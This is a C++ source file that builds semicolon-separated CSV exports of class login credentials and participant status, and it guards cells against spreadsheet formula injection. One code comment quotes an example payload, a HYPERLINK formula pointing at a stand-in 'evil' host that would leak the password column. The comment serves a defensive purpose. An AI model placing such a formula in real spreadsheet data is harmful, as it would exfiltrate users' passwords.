// CSV for spreadsheets: the credentials of a class, one cell at a time through csv_cell, which
// also keeps a cell from being read as a formula.
#include <chrono>
#include <cstdio>
#include <string>
#include <string_view>

#include "inscrire/render.hpp"

namespace inscrire {

namespace {

// A spreadsheet reads a cell beginning with one of these as a formula (or as the start of one):
// `=HYPERLINK("http://evil/?"&E2;"...")` in a name would send the password column away when
// the teacher opens the file. OWASP's advice: prefix such a cell with a quote.
bool looks_like_formula(std::string_view value) {
  return !value.empty() &&
         std::string_view("=+-@\t\r").find(value.front()) != std::string_view::npos;
}

}  // namespace

std::string csv_cell(std::string_view value) {
  std::string neutral = looks_like_formula(value) ? "'" + std::string(value) : std::string(value);
  if (neutral.find_first_of(";\"\r\n") == std::string::npos) return neutral;
  std::string quoted = "\"";
  for (const char c : neutral) {
    if (c == '"') quoted += '"';
    quoted += c;
  }
  return quoted + "\"";
}

std::string credentials_csv(const Credentials& credentials) {
  std::string out =
      "\xEF\xBB\xBF"
      "Classe;Nom;Prénom;Identifiant;Mot de passe\r\n";
  for (const auto& row : credentials.rows) {
    out += csv_cell(row.division) + ";" + csv_cell(row.last_name) + ";" + csv_cell(row.first_name) +
           ";" + csv_cell(row.username) + ";" + csv_cell(row.temporary_password) + "\r\n";
  }
  return out;
}

std::string iso8601_utc(std::int64_t unix_seconds) {
  using namespace std::chrono;
  const sys_seconds at{seconds{unix_seconds}};
  const auto day = floor<days>(at);
  const year_month_day date{day};
  const hh_mm_ss time{at - day};
  char text[64];
  std::snprintf(text, sizeof text, "%04d-%02u-%02uT%02ld:%02ld:%02ldZ",
                static_cast<int>(date.year()), static_cast<unsigned>(date.month()),
                static_cast<unsigned>(date.day()), static_cast<long>(time.hours().count()),
                static_cast<long>(time.minutes().count()),
                static_cast<long>(time.seconds().count()));
  return text;
}

std::string participants_csv(const std::vector<Participant>& participants) {
  const auto time = [](const std::optional<std::int64_t>& at) {
    return at ? iso8601_utc(*at) : std::string();
  };
  std::string out =
      "\xEF\xBB\xBF"
      "Classe;Nom;Prénom;Identifiant;Statut;Commencé le;Partagé le;Hors classe\r\n";
  for (const auto& row : participants) {
    out += csv_cell(row.division) + ";" + csv_cell(row.last_name) + ";" + csv_cell(row.first_name) +
           ";" + csv_cell(row.username.value_or("")) + ";" + csv_cell(row.status) + ";" +
           csv_cell(time(row.started_at)) + ";" + csv_cell(time(row.shared_at)) + ";" +
           (row.out_of_division ? "oui" : "") + "\r\n";
  }
  return out;
}

}  // namespace inscrire
